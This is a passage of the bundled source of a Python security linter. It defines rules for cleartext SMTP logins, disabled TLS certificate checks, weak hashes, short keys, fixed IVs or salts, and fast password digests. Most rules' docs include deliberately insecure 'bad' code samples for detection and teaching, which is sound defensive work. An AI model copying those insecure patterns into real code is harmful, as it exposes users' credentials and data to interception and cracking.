          'import smtplib\ndef notify(user, password, message):\n    server = smtplib.SMTP("smtp.gmail.com", 587)\n    server.login(user, password)\n    server.send_message(message)\n',
          "import smtplib\ndef send(settings, message):\n    with smtplib.SMTP(settings.host, 25) as server:\n        server.login(settings.user, settings.password)\n        server.send_message(message)\n"
        ],
        good: [
          'import smtplib, ssl\ndef notify(user, password, message):\n    server = smtplib.SMTP("smtp.gmail.com", 587)\n    server.starttls(context=ssl.create_default_context())\n    server.login(user, password)\n    server.send_message(message)\n',
          'import smtplib\ndef notify(user, password, message):\n    with smtplib.SMTP_SSL("smtp.gmail.com", 465) as server:\n        server.login(user, password)\n',
          'import smtplib\ndef relay(user, password, message):\n    server = smtplib.SMTP("localhost", 1025)\n    server.login(user, password)\n'
        ],
        references: ["https://docs.python.org/3/library/smtplib.html#smtplib.SMTP.starttls", "https://cwe.mitre.org/data/definitions/319.html"]
      },
      create(context) {
        const { module: module2 } = context;
        const connection = (login) => {
          const receiver = login.childForFieldName("function")?.childForFieldName("object");
          if (receiver?.type === "call")
            return receiver;
          if (receiver?.type !== "identifier")
            return void 0;
          const entered = enteredCall(receiver, module2);
          if (entered)
            return entered;
          const values = module2.valuesOf(receiver);
          return values?.length === 1 && values[0].type === "call" ? values[0] : void 0;
        };
        const negotiatesTls = (login) => {
          const owner = module2.functionAt(login) ?? module2.root;
          return owner.descendantsOfType("call").some((call) => module2.calleeAttribute(call) === "starttls");
        };
        const attributeConnection = (login) => {
          const receiver = login.childForFieldName("function")?.childForFieldName("object");
          if (receiver?.type !== "attribute")
            return void 0;
          const assigned = module2.root.descendantsOfType("assignment").find((assignment) => assignment.childForFieldName("left")?.text === receiver.text && CLEARTEXT_CLIENTS.has(callNameOf(assignment.childForFieldName("right")) ?? ""));
          if (!assigned)
            return void 0;
          const upgraded = module2.root.descendantsOfType("call").some((call) => module2.calleeAttribute(call) === "starttls" && call.childForFieldName("function")?.childForFieldName("object")?.text === receiver.text);
          return upgraded ? void 0 : assigned.childForFieldName("right");
        };
        const callNameOf = (node) => node?.type === "call" ? module2.callName(node) : void 0;
        return {
          call(node) {
            if (module2.calleeAttribute(node) !== "login")
              return;
            const name = callNameThroughWith(node, module2);
            const smtp = name !== void 0 && LOGINS.has(name) ? negotiatesTls(node) ? void 0 : connection(node) ?? node : attributeConnection(node);
            if (!smtp)
              return;
            const host = smtp.type === "call" && smtp.id !== node.id ? argument(smtp, "host", 0) : void 0;
            const hostName = host ? module2.constant(host) : void 0;
            const kind = typeof hostName === "string" ? hostKind(hostName) : "remote";
            if (hostName === "" || kind === "local")
              return;
            const where = typeof hostName === "string" ? ` to ${hostName}` : "";
            context.report({ node, confidence: kind === "placeholder" ? "low" : void 0, message: `SMTP login${where} without starttls(): the password crosses the network in cleartext` });
          }
        };
      }
    });
  }
});

// dist/rules/insecure-transport/certificate-checks-disabled.js
function disables(module2, value, disabling) {
  const constant = module2.constant(value);
  if (disabling === "true")
    return constant === true || constant === 1;
  if (disabling === "false")
    return constant === false || constant === 0;
  return module2.qualifiedName(value) === "ssl.CERT_NONE" || constant === "CERT_NONE" || constant === "none" || constant === 0;
}
var KEYWORDS2, OPTIONS, certificate_checks_disabled_default;
var init_certificate_checks_disabled = __esm({
  "dist/rules/insecure-transport/certificate-checks-disabled.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_name_triggers();
    KEYWORDS2 = {
      disable_ssl_certificate_validation: { disabling: "true", library: "httplib2" },
      validate_cert: { disabling: "false", library: "tornado" },
      validate_certs: { disabling: "false", library: "Ansible/OpenStack clients" },
      tlsAllowInvalidCertificates: { disabling: "true", library: "pymongo" },
      tlsAllowInvalidHostnames: { disabling: "true", library: "pymongo" },
      tlsInsecure: { disabling: "true", library: "pymongo" },
      ssl_cert_reqs: { disabling: "cert-none", library: "pymongo/redis" },
      cert_reqs: { disabling: "cert-none", library: "urllib3/ssl" },
      assert_hostname: { disabling: "false", library: "urllib3" },
      ssl_check_hostname: { disabling: "false", library: "kafka/redis" }
    };
    OPTIONS = {
      setopt: { option: /* @__PURE__ */ new Set(["SSL_VERIFYPEER", "SSL_VERIFYHOST"]), off: (module2, value) => module2.constant(value) === 0 || module2.constant(value) === false },
      set_option: { option: /* @__PURE__ */ new Set(["OPT_X_TLS_REQUIRE_CERT"]), off: (module2, value) => ["OPT_X_TLS_NEVER", "OPT_X_TLS_ALLOW"].includes(lastName(module2.qualifiedName(value) ?? "")) }
    };
    certificate_checks_disabled_default = defineRule({
      id: "certificate-checks-disabled",
      aliases: [],
      category: "insecure-transport",
      cwe: 295,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "TLS certificate checks are switched off: anyone on the network path can impersonate the server",
      fix: "Leave certificate and host name checks on; for a private CA pass its bundle (ca_certs=, tlsCAFile=, CAINFO).",
      triggers: [...Object.keys(KEYWORDS2), "cert_reqs", "SSL_VERIFYPEER", "SSL_VERIFYHOST", "OPT_X_TLS_REQUIRE_CERT"],
      calleeKeywords: new RegExp(`^(?:${Object.keys(KEYWORDS2).join("|")})$`),
      callees: Object.keys(OPTIONS),
      docs: {
        why: `Every TLS client has its own switch for "accept any certificate": httplib2's disable_ssl_certificate_validation=True, tornado's validate_cert=False, urllib3's cert_reqs="CERT_NONE" or assert_hostname=False, pymongo's tlsAllowInvalidCertificates=True, \`"cert_reqs": ssl.CERT_NONE\` in websocket-client's sslopt, pycurl's SSL_VERIFYPEER=0, python-ldap's OPT_X_TLS_NEVER. Each lets a man in the middle read and change the traffic, credentials included: high severity, as requests' verify=False. A server socket (server_side=True) with CERT_NONE merely asks no client certificate, the normal case, and is not reported.`,
        bad: [
          "import httplib2\nhttp = httplib2.Http(disable_ssl_certificate_validation=True)\n",
          'import urllib3\npool = urllib3.PoolManager(cert_reqs="CERT_NONE")\n',
          'import ssl, websocket\nws = websocket.create_connection("wss://feed.vendor.io", sslopt={"cert_reqs": ssl.CERT_NONE})\n',
          "import pycurl\ncurl = pycurl.Curl()\ncurl.setopt(pycurl.SSL_VERIFYPEER, 0)\n"
        ],
        good: [
          'import httplib2\nhttp = httplib2.Http(ca_certs="/etc/ssl/private-ca.pem")\n',
          'import urllib3\npool = urllib3.PoolManager(cert_reqs="CERT_REQUIRED")\n',
          "import pycurl\ncurl = pycurl.Curl()\ncurl.setopt(pycurl.SSL_VERIFYPEER, 1)\n"
        ],
        references: ["https://cwe.mitre.org/data/definitions/295.html", "https://urllib3.readthedocs.io/en/stable/advanced-usage.html#certificate-verification"]
      },
      create(context) {
        const { module: module2 } = context;
        const isServerSide = (value) => !!value && module2.constant(value) === true;
        return {
          call(node) {
            const setter = OPTIONS[module2.calleeAttribute(node) ?? ""];
            if (setter) {
              const option = argument(node, null, 0);
              const value = argument(node, null, 1);
              if (option && value && setter.option.has(lastName(module2.qualifiedName(option) ?? "")) && setter.off(module2, value)) {
                context.report({ node, message: `${option.text} switched off: any certificate is accepted` });
              }
              return;
            }
            if (module2.callName(node)?.startsWith("ssl.") || isServerSide(argument(node, "server_side", null)))
              return;
            for (const [keyword, { disabling, library }] of Object.entries(KEYWORDS2)) {
              const value = argument(node, keyword, null);
              if (value && disables(module2, value, disabling)) {
                context.report({ node: value.parent ?? node, message: `${keyword}=${value.text} turns off TLS certificate checks (${library}): anyone on the network path can impersonate the server` });
              }
            }
          },
          // `sslopt={"cert_reqs": ssl.CERT_NONE}`, `ssl_options = {"cert_reqs": ssl.CERT_NONE}`.
          pair(node) {
            const key = node.childForFieldName("key");
            const value = node.childForFieldName("value");
            if (!key || !value || module2.constant(key) !== "cert_reqs" || !disables(module2, value, "cert-none"))
              return;
            const serverSide = node.parent?.namedChildren.find((pair) => pair.type === "pair" && module2.constant(pair.childForFieldName("key")) === "server_side");
            if (isServerSide(serverSide?.childForFieldName("value") ?? void 0))
              return;
            context.report({ node, message: '"cert_reqs": CERT_NONE turns off TLS certificate checks: anyone on the network path can impersonate the server' });
          }
        };
      }
    });
  }
});

// dist/rules/weak-crypto/insecure-hashlib.js
function cryptSaltScheme(salt, module2) {
  const text = module2.fold(salt)?.text;
  if (!text || text.startsWith(HOLE))
    return void 0;
  if (text.startsWith("$1$"))
    return MD5_CRYPT;
  return text.startsWith("$") || text.startsWith("_") ? void 0 : DES_CRYPT;
}
function namesNonSecurityUse(call, module2) {
  const texts = [statementOf(call).text.slice(0, 400), module2.functionAt(call)?.childForFieldName("name")?.text ?? ""];
  return texts.some((text) => NON_SECURITY_WORDS.test(text)) && !texts.some((text) => SECURITY_WORDS.test(text));
}
function securityEvidence(call, module2) {
  const statement = statementOf(call).text.slice(0, 400);
  const owner = module2.functionAt(call)?.childForFieldName("name")?.text ?? "";
  for (const text of [statement, owner]) {
    if (NON_SECURITY_WORDS.test(text))
      return void 0;
    const match = SECURITY_WORDS.exec(text);
    if (!match)
      continue;
    const word = /\w*$/.exec(text.slice(0, match.index))[0] + match[0] + /^\w*/.exec(text.slice(match.index + match[0].length))[0];
    return text === owner ? `${owner}()` : `'${word}'`;
  }
  return void 0;
}
var WEAK_HASHES, WEAK_CRYPT_METHODS, insecure_hashlib_default, DES_CRYPT, MD5_CRYPT, SECURITY_WORDS, NON_SECURITY_WORDS;
var init_insecure_hashlib = __esm({
  "dist/rules/weak-crypto/insecure-hashlib.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_syntax();
    init_literals();
    WEAK_HASHES = /* @__PURE__ */ new Set(["md4", "md5", "sha", "sha1"]);
    WEAK_CRYPT_METHODS = /* @__PURE__ */ new Set(["METHOD_CRYPT", "METHOD_MD5", "METHOD_BLOWFISH"]);
    insecure_hashlib_default = defineRule({
      id: "insecure-hashlib",
      aliases: ["B324", "S324", "hashlib"],
      category: "weak-crypto",
      cwe: 327,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "MD4, MD5 and SHA-1 are broken for security use",
      fix: "Use hashlib.sha256() or better; for passwords use hashlib.scrypt / argon2 / bcrypt. If the hash is not a security control (cache key, ETag), say so: hashlib.md5(data, usedforsecurity=False).",
      triggers: ["hashlib", "crypt"],
      // Reported: hashlib.{md4,md5,sha,sha1,new} and crypt.{crypt,mksalt}, matched on callName's last segment.
      callees: [...WEAK_HASHES, "new", "crypt", "mksalt"],
      docs: {
        why: "Collisions for MD5 and SHA-1 are cheap to compute, so signatures, integrity checks and tokens built on them can be forged; as password hashes they are fast to brute-force. crypt.crypt() with crypt.METHOD_CRYPT or a written-out DES salt (two characters, no `$`) is high severity (8-character passwords, brute-forced in hours); MD5-crypt (`$1$`, crypt.METHOD_MD5) is medium. `usedforsecurity=False` (Python 3.9+) documents a non-security use and is accepted. MD5/SHA-1 are also used everywhere for cache keys, ETags and file fingerprints, so the finding is high severity (blocking) only when the statement or the enclosing function names what the hash protects (password, token, signature, secret, HMAC\u2026); when they name a non-security use instead (ETag, cache key, checksum, shard, bucket, a git object id or content address) it is shown only by `--profile audit`; otherwise it is reported at medium. Bandit reports every call as high.",
        bad: [
          "import hashlib\ndigest = hashlib.md5(password.encode()).hexdigest()\n",
          'import hashlib\nh = hashlib.new("SHA1")\n',
          "import crypt\nhashed = crypt.crypt(password, crypt.METHOD_MD5)\n",
          'import crypt\nhashed = crypt.crypt(password, "ab")  # DES crypt\n',
          'import crypt\nhashed = crypt.crypt(password, "$1$" + salt)  # MD5-crypt\n'
        ],
        good: [
          "import hashlib\ndigest = hashlib.sha256(data).hexdigest()\n",
          "import hashlib\nkey = hashlib.md5(url.encode(), usedforsecurity=False).hexdigest()\n",
          `import hashlib
etag = '"%s"' % hashlib.md5(body).hexdigest()
`,
          'import hashlib\nh = hashlib.new("sha256")\n',
          "import crypt\nhashed = crypt.crypt(password, crypt.mksalt(crypt.METHOD_SHA512))\n",
          "import crypt\nok = crypt.crypt(password, stored_hash) == stored_hash  # verifying: the stored hash picks the scheme\n"
        ],
        references: ["https://docs.python.org/3/library/hashlib.html", "https://cwe.mitre.org/data/definitions/327.html"]
      },
      create(context) {
        if (!context.module.importsModule("hashlib") && !context.module.importsModule("crypt"))
          return {};
        const module2 = context.module;
        return {
          call(node) {
            const name = module2.callName(node);
            if (!name)
              return;
            const dot = name.lastIndexOf(".");
            const owner = name.slice(0, dot);
            const func = name.slice(dot + 1);
            if (owner === "hashlib") {
              const used = keywordArgument(node, "usedforsecurity");
              if (used && module2.constant(used) === false)
                return;
              let algorithm;
              if (WEAK_HASHES.has(func))
                algorithm = func;
              else if (func === "new") {
                const named = argument(node, "name", 0);
                const value = named ? module2.constant(named) : void 0;
                if (typeof value === "string" && WEAK_HASHES.has(value.toLowerCase()))
                  algorithm = value.toLowerCase();
              }
              if (!algorithm)
                return;
              const evidence = securityEvidence(node, module2);
              if (evidence)
                context.report({ node, message: `weak ${algorithm.toUpperCase()} hash used for ${evidence}: use SHA-256 or better (a password hash such as hashlib.scrypt for passwords)` });
              else {
                const auditOnly = namesNonSecurityUse(node, module2);
                context.report({ node, severity: "medium", auditOnly, message: `weak ${algorithm.toUpperCase()} hash: if it protects nothing (cache key, checksum) pass usedforsecurity=False; for security use SHA-256 or better` });
              }
            } else if (owner === "crypt" && (func === "crypt" || func === "mksalt")) {
              const method = func === "crypt" ? argument(node, "salt", 1) : argument(node, "method", 0);
              const methodName = method ? module2.qualifiedName(method)?.split(".").pop() : void 0;
              if (methodName && WEAK_CRYPT_METHODS.has(methodName)) {
                context.report({ node, severity: methodName === "METHOD_CRYPT" ? "high" : "medium", message: `crypt.${methodName} is a weak password hash` });
                return;
              }
              const scheme = func === "crypt" && method ? cryptSaltScheme(method, module2) : void 0;
              if (scheme)
                context.report({ node, severity: scheme.severity, message: `crypt.crypt() with a ${scheme.name} salt: ${scheme.why}` });
            }
          }
        };
      }
    });
    DES_CRYPT = { name: "DES", why: "only the first 8 characters of the password count and a GPU tries every one in hours", severity: "high" };
    MD5_CRYPT = { name: "MD5 ($1$)", why: "MD5-crypt is fast enough to brute-force; use $6$ (SHA-512) via crypt.mksalt(crypt.METHOD_SHA512) or a modern hash", severity: "medium" };
    SECURITY_WORDS = /passw|passphrase|pwd|secret|token|auth|signature|\bsign\b|_sign|sign_|hmac|credential|api_?key|private_?key|nonce|salt|otp|session|csrf|integrity|cert/i;
    NON_SECURITY_WORDS = /cache|etag|checksum|fingerprint|file_?name|filename|dedup|shard|bucket|partition|gravatar|avatar|object_?id|\boid\b|blob_?id|content_?(?:hash|address|id)/i;
  }
});

// dist/rules/weak-crypto/weak-crypto-key.js
var GENERATORS, CURVE_BITS, DEFAULT_KEY_SIZE, weak_crypto_key_default;
var init_weak_crypto_key = __esm({
  "dist/rules/weak-crypto/weak-crypto-key.js"() {
    "use strict";
    init_name_triggers();
    init_types();
    init_arguments();
    GENERATORS = /* @__PURE__ */ new Map([
      ["cryptography.hazmat.primitives.asymmetric.dsa.generate_private_key", { type: "DSA", keyword: "key_size", position: 0 }],
      ["cryptography.hazmat.primitives.asymmetric.rsa.generate_private_key", { type: "RSA", keyword: "key_size", position: 1 }],
      ["cryptography.hazmat.primitives.asymmetric.ec.generate_private_key", { type: "EC", keyword: "curve", position: 0 }],
      ["Crypto.PublicKey.DSA.generate", { type: "DSA", keyword: "bits", position: 0 }],
      ["Crypto.PublicKey.RSA.generate", { type: "RSA", keyword: "bits", position: 0 }],
      ["Cryptodome.PublicKey.DSA.generate", { type: "DSA", keyword: "bits", position: 0 }],
      ["Cryptodome.PublicKey.RSA.generate", { type: "RSA", keyword: "bits", position: 0 }]
    ]);
    CURVE_BITS = { SECP192R1: 192, SECT163K1: 163, SECT163R2: 163 };
    DEFAULT_KEY_SIZE = 2048;
    weak_crypto_key_default = defineRule({
      id: "weak-crypto-key",
      aliases: ["B505", "S505", "weak_cryptographic_key"],
      category: "weak-crypto",
      cwe: 326,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "key too short to resist factoring / discrete-log attacks",
      fix: "Generate RSA and DSA keys of at least 2048 bits (3072 for use beyond 2030) and EC keys on a 224-bit or larger curve (SECP256R1).",
      // Bandit's `weak_cryptographic_key` section: sizes below `…High` are high severity, below `…Medium` medium. The
      // defaults put every size NIST disallows (RSA/DSA under 2048 bits, curves under 224) at high, so it blocks;
      // Bandit's own figures (1024/2048, 160/224) can be set in the config to get its medium tier back.
      options: {
        weakKeySizeDsaHigh: 2048,
        weakKeySizeDsaMedium: 2048,
        weakKeySizeRsaHigh: 2048,
        weakKeySizeRsaMedium: 2048,
        weakKeySizeEcHigh: 224,
        weakKeySizeEcMedium: 224
      },
      // One segment of each generator's qualified name (every segment is written in an import or an attribute).
      triggers: ["generate_private_key", "PublicKey"],
      callees: [...GENERATORS.keys()].map(lastName),
      docs: {
        why: "RSA and DSA keys of 1024 bits and below are within reach of well-funded attackers, and NIST disallows keys under 2048 bits for new signatures; EC curves under 224 bits are likewise too small.",
        bad: [
          "from cryptography.hazmat.primitives.asymmetric import rsa\nkey = rsa.generate_private_key(public_exponent=65537, key_size=1024)\n",
          "from Crypto.PublicKey import DSA\nkey = DSA.generate(512)\n",
          "from cryptography.hazmat.primitives.asymmetric import ec\nkey = ec.generate_private_key(ec.SECP192R1())\n"
        ],
        good: [
          "from cryptography.hazmat.primitives.asymmetric import rsa\nkey = rsa.generate_private_key(public_exponent=65537, key_size=3072)\n",
          "from cryptography.hazmat.primitives.asymmetric import ec\nkey = ec.generate_private_key(ec.SECP256R1())\n"
        ],
        references: ["https://csrc.nist.gov/publications/detail/sp/800-131a/rev-2/final", "https://cwe.mitre.org/data/definitions/326.html"]
      },
      create(context) {
        if (!["cryptography", "Crypto", "Cryptodome"].some((root) => context.module.importsModule(root)))
          return {};
        const thresholds = (type) => {
          const stem = type === "EC" ? "Ec" : type === "RSA" ? "Rsa" : "Dsa";
          return [[context.options[`weakKeySize${stem}High`], "high"], [context.options[`weakKeySize${stem}Medium`], "medium"]];
        };
        return {
          call(node) {
            const name = context.module.callName(node);
            const generator = name ? GENERATORS.get(name) : void 0;
            if (!generator)
              return;
            const sizeArgument = argument(node, generator.keyword, generator.position);
            let bits;
            if (generator.type === "EC") {
              const curve = sizeArgument ? context.module.qualifiedName(sizeArgument)?.replace(/\(\)$/, "").split(".").pop() : void 0;
              if (sizeArgument && curve === void 0)
                return;
              bits = curve && CURVE_BITS[curve] || 224;
            } else if (!sizeArgument) {
              bits = DEFAULT_KEY_SIZE;
            } else {
              const value = context.module.constant(sizeArgument);
              if (typeof value !== "number")
                return;
              bits = value;
            }
            for (const [limit, severity] of thresholds(generator.type)) {
              if (bits < limit) {
                context.report({ node, severity, message: `${generator.type} key of ${bits} bits: ${generator.type} keys below ${limit} bits are considered breakable` });
                return;
              }
            }
          }
        };
      }
    });
  }
});

// dist/rules/weak-crypto/static-iv-or-salt.js
function isStatic(node, module2, depth = 0) {
  if (depth > 4)
    return false;
  const value = module2.constant(node);
  if (typeof value === "string")
    return true;
  switch (node.type) {
    case "binary_operator": {
      if (node.childForFieldName("operator")?.text !== "*")
        return false;
      const sides = [node.childForFieldName("left"), node.childForFieldName("right")];
      const known = sides.every((side) => !!side && (module2.isConstant(side) || isStatic(side, module2, depth + 1)));
      return known && sides.some((side) => !!side && isStatic(side, module2, depth + 1));
    }
    case "call": {
      const name = module2.callName(node);
      const first = argument(node, null, 0);
      return (name === "bytes" || name === "bytearray") && !!first && module2.isConstant(first);
    }
    case "identifier": {
      const values = module2.valuesOf(node);
      return values?.length === 1 && isStatic(values[0], module2, depth + 1);
    }
    case "parenthesized_expression":
      return !!node.firstNamedChild && isStatic(node.firstNamedChild, module2, depth + 1);
    default:
      return false;
  }
}
var SEVERITY, RISK, PYCRYPTODOME_CIPHERS, PYCRYPTODOME_STREAMS, MODES, AEAD, KDF, PARAMETERS, CBC_MODES, static_iv_or_salt_default;
var init_static_iv_or_salt = __esm({
  "dist/rules/weak-crypto/static-iv-or-salt.js"() {
    "use strict";
    init_types();
    init_name_triggers();
    init_arguments();
    SEVERITY = { nonce: "high", iv: "high", salt: "medium" };
    RISK = {
      nonce: "a fixed nonce/IV in a stream or AEAD mode reuses the keystream: two messages XOR to each other and GCM tags can be forged",
      iv: "a fixed CBC IV makes equal plaintext prefixes encrypt to equal ciphertext",
      salt: "a fixed salt lets one precomputed table crack every password hashed with it"
    };
    PYCRYPTODOME_CIPHERS = ["AES", "DES", "DES3", "Blowfish", "CAST", "ARC2"].flatMap((cipher) => ["Crypto", "Cryptodome"].map((root) => `${root}.Cipher.${cipher}.new`));
    PYCRYPTODOME_STREAMS = ["ChaCha20", "Salsa20", "ChaCha20_Poly1305"].flatMap((cipher) => ["Crypto", "Cryptodome"].map((root) => `${root}.Cipher.${cipher}.new`));
    MODES = "cryptography.hazmat.primitives.ciphers.modes";
    AEAD = ["AESGCM", "AESCCM", "AESOCB3", "AESGCMSIV", "ChaCha20Poly1305"].map((cipher) => `cryptography.hazmat.primitives.ciphers.aead.${cipher}().encrypt`);
    KDF = "cryptography.hazmat.primitives.kdf";
    PARAMETERS = new Map([
      [`${MODES}.CBC`, { keyword: "initialization_vector", position: 0, role: "iv" }],
      ...["OFB", "CFB", "CFB8", "GCM"].map((mode) => [`${MODES}.${mode}`, { keyword: "initialization_vector", position: 0, role: "nonce" }]),
      [`${MODES}.CTR`, { keyword: "nonce", position: 0, role: "nonce" }],
      ["cryptography.hazmat.primitives.ciphers.algorithms.ChaCha20", { keyword: "nonce", position: 1, role: "nonce" }],
      ...AEAD.map((name) => [name, { keyword: "nonce", position: 0, role: "nonce" }]),
      ...PYCRYPTODOME_STREAMS.map((name) => [name, { keyword: "nonce", position: null, role: "nonce" }]),
      ["hashlib.pbkdf2_hmac", { keyword: "salt", position: 2, role: "salt" }],
      ["hashlib.scrypt", { keyword: "salt", position: null, role: "salt" }],
      [`${KDF}.pbkdf2.PBKDF2HMAC`, { keyword: "salt", position: 2, role: "salt" }],
      [`${KDF}.scrypt.Scrypt`, { keyword: "salt", position: 0, role: "salt" }],
      ...["Crypto", "Cryptodome"].flatMap((root) => ["PBKDF2", "scrypt"].map((kdf) => [`${root}.Protocol.KDF.${kdf}`, { keyword: "salt", position: 1, role: "salt" }])),
      ["bcrypt.hashpw", { keyword: "salt", position: 1, role: "salt" }],
      ["argon2.low_level.hash_secret", { keyword: "salt", position: 1, role: "salt" }],
      ["argon2.low_level.hash_secret_raw", { keyword: "salt", position: 1, role: "salt" }]
    ]);
    CBC_MODES = /* @__PURE__ */ new Set(["MODE_CBC"]);
    static_iv_or_salt_default = defineRule({
      id: "static-iv-or-salt",
      aliases: [],
      category: "weak-crypto",
      cwe: 329,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "a fixed IV, nonce or salt is written into the code",
      fix: "Generate a fresh value per message or per password: os.urandom(16) (or secrets.token_bytes) for IVs and salts, os.urandom(12) for GCM nonces; store it next to the ciphertext or hash.",
      triggers: [...PARAMETERS.keys(), ...PYCRYPTODOME_CIPHERS].map(nameTrigger),
      callees: [...new Set([...PARAMETERS.keys(), ...PYCRYPTODOME_CIPHERS].map(lastName))],
      docs: {
        why: "IVs, nonces and salts exist to make each encryption or password hash unique. A constant nonce in CTR, GCM, OFB, CFB or ChaCha20 reuses the keystream: XOR two ciphertexts and the key is not even needed, and GCM authentication can be forged. A constant CBC IV makes the cipher deterministic: it leaks which messages start alike and lets a chosen-plaintext attacker confirm guesses block by block. Both are high severity and block. A constant password salt lets one precomputed table crack every hash: medium. Values from os.urandom, secrets or a parameter are not reported.",
        bad: [
          'from Crypto.Cipher import AES\ndef encrypt(key, data):\n    return AES.new(key, AES.MODE_CBC, iv=b"0000000000000000").encrypt(data)\n',
          'from cryptography.hazmat.primitives.ciphers.aead import AESGCM\nNONCE = b"\\x00" * 12\ndef seal(key, data):\n    return AESGCM(key).encrypt(NONCE, data, None)\n',
          'import hashlib\ndef hash_password(password):\n    return hashlib.pbkdf2_hmac("sha256", password.encode(), b"static-salt", 600000)\n'
        ],
        good: [
          "import os\nfrom Crypto.Cipher import AES\ndef encrypt(key, data):\n    iv = os.urandom(16)\n    return iv + AES.new(key, AES.MODE_CBC, iv=iv).encrypt(data)\n",
          "import os\nfrom cryptography.hazmat.primitives.ciphers.aead import AESGCM\ndef seal(key, data):\n    nonce = os.urandom(12)\n    return nonce + AESGCM(key).encrypt(nonce, data, None)\n",
          'import hashlib, os\ndef hash_password(password):\n    salt = os.urandom(16)\n    return salt + hashlib.pbkdf2_hmac("sha256", password.encode(), salt, 600000)\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/329.html", "https://cwe.mitre.org/data/definitions/760.html", "https://cryptography.io/en/latest/hazmat/primitives/symmetric-encryption/#modes"]
      },
      create(context) {
        const { module: module2 } = context;
        const pycryptodome = new Set(PYCRYPTODOME_CIPHERS);
        const cipherParameter = (call) => {
          const mode = argument(call, "mode", 1);
          const modeName = lastName(mode ? module2.qualifiedName(mode) ?? "" : "");
          const role = CBC_MODES.has(modeName) ? "iv" : "nonce";
          return { value: argument(call, "iv", 2) ?? argument(call, "nonce", null), role };
        };
        return {
          call(node) {
            const name = module2.callName(node);
            if (name === void 0)
              return;
            let found;
            if (pycryptodome.has(name))
              found = cipherParameter(node);
            else {
              const parameter = PARAMETERS.get(name);
              if (parameter)
                found = { value: argument(node, parameter.keyword, parameter.position), role: parameter.role };
            }
            if (!found?.value || !isStatic(found.value, module2))
              return;
            context.report({ node: found.value, severity: SEVERITY[found.role], message: `fixed ${found.role === "iv" ? "IV" : found.role} passed to ${name.replace(/\(\)/g, "").split(".").slice(-2).join(".")}(): ${RISK[found.role]}` });
          }
        };
      }
    });
  }
});

// dist/rules/weak-crypto/password-hash-without-kdf.js
function isPasswordWord(name) {
  const words2 = nameWords(name);
  return words2.some((word) => PASSWORD_WORDS.has(word)) && !words2.some((word) => DERIVED_WORDS.has(word)) && !isDescribingName(name);
}
function passwordIn(data, module2, depth = 0) {
  for (const node of [data, ...data.descendantsOfType(["identifier", "attribute", "subscript", "string"])]) {
    let name;
    if (node.type === "identifier")
      name = node.text;
    else if (node.type === "attribute")
      name = node.childForFieldName("attribute")?.text;
    else if (node.type === "string" && (node.parent?.type === "subscript" || node.parent?.parent?.type === "call")) {
      const value = module2.constant(node);
      name = typeof value === "string" && /^\w+$/.test(value) ? value : void 0;
    }
    if (name && isPasswordWord(name))
      return name;
    if (node.type === "identifier" && depth < 2 && node.parent?.type !== "attribute") {
      const values = module2.valuesOf(node);
      const found = values?.length === 1 ? passwordIn(values[0], module2, depth + 1) : void 0;
      if (found)
        return found;
    }
  }
  return void 0;
}
var DIGESTS, CONSTRUCTORS, UPDATES, PASSWORD_WORDS, DERIVED_WORDS, password_hash_without_kdf_default;
var init_password_hash_without_kdf = __esm({
  "dist/rules/weak-crypto/password-hash-without-kdf.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_password_names();
    DIGESTS = ["md5", "sha1", "sha224", "sha256", "sha384", "sha512", "sha3_224", "sha3_256", "sha3_384", "sha3_512", "blake2b", "blake2s"];
    CONSTRUCTORS = new Set(DIGESTS.map((digest) => `hashlib.${digest}`));
    UPDATES = /* @__PURE__ */ new Set([...DIGESTS.map((digest) => `hashlib.${digest}().update`), "hashlib.new().update"]);
    PASSWORD_WORDS = /* @__PURE__ */ new Set(["password", "passwd", "passwort", "pwd", "passphrase", "pass", "pw", "pword"]);
    DERIVED_WORDS = /* @__PURE__ */ new Set(["hash", "hashed", "digest", "token", "salt", "encrypted", "crypted"]);
    password_hash_without_kdf_default = defineRule({
      id: "password-hash-without-kdf",
      aliases: [],
      category: "weak-crypto",
      cwe: 916,
      severity: "medium",
      confidence: "medium",
      cost: "fast",
      message: "a password is hashed with a fast digest instead of a password hash (KDF)",
      fix: 'Use a slow, salted password hash: argon2-cffi, bcrypt, hashlib.scrypt, or hashlib.pbkdf2_hmac("sha256", password, os.urandom(16), 600_000); in Django, make_password().',
      triggers: ["hashlib"],
      callees: [...DIGESTS, "update"],
      docs: {
        why: 'SHA-256 and friends are built to be fast: a GPU computes billions per second, so a leaked table of sha256(password) (salted or not) falls to a dictionary attack in hours. Password storage needs a deliberately slow, salted key-derivation function. Reported when the hashed data names a password (`password`, `passwd`, `pwd`, `form["password"]`), directly or through one local; a `password_hash` or `password_reset_token` is not a password. Medium severity, medium confidence: some protocols (HTTP Digest, legacy APIs) mandate a plain digest of a password, so it does not block.',
        bad: [
          "import hashlib\ndef register(username, password):\n    save(username, hashlib.sha256(password.encode()).hexdigest())\n",
          'import hashlib\ndef check(user, form):\n    digest = hashlib.md5()\n    digest.update(form["password"].encode())\n    return digest.hexdigest() == user.password_digest\n'
        ],
        good: [
          'import hashlib, os\ndef register(username, password):\n    salt = os.urandom(16)\n    save(username, salt + hashlib.pbkdf2_hmac("sha256", password.encode(), salt, 600_000))\n',
          "import hashlib\ndef store_reset(user, token):\n    user.reset_token_hash = hashlib.sha256(token.encode()).hexdigest()\n",
          "import hashlib\ndef fingerprint(user):\n    return hashlib.sha256(user.password_hash.encode()).hexdigest()\n"
        ],
        references: ["https://cwe.mitre.org/data/definitions/916.html", "https://cheatsheetseries.owasp.org/cheatsheets/Password_Storage_Cheat_Sheet.html"]
      },
      create(context) {
        const { module: module2 } = context;
        if (!module2.importsModule("hashlib"))
          return {};
        return {
          call(node) {
            const name = module2.callName(node);
            if (name === void 0)
              return;
            let data;
            if (CONSTRUCTORS.has(name))
              data = argument(node, "data", 0) ?? argument(node, "string", null);
            else if (name === "hashlib.new")
              data = argument(node, "data", 1);
            else if (UPDATES.has(name))
              data = argument(node, null, 0);
            const password = data ? passwordIn(data, module2) : void 0;
            if (!password)
              return;
            const digest = name.replace(/\(\)/g, "").split(".")[1];
            context.report({ node, message: `'${password}' hashed with ${digest}: a fast digest is brute-forced at billions of guesses per second; use a password hash (argon2, bcrypt, scrypt, PBKDF2)` });
          }
        };
      }
    });
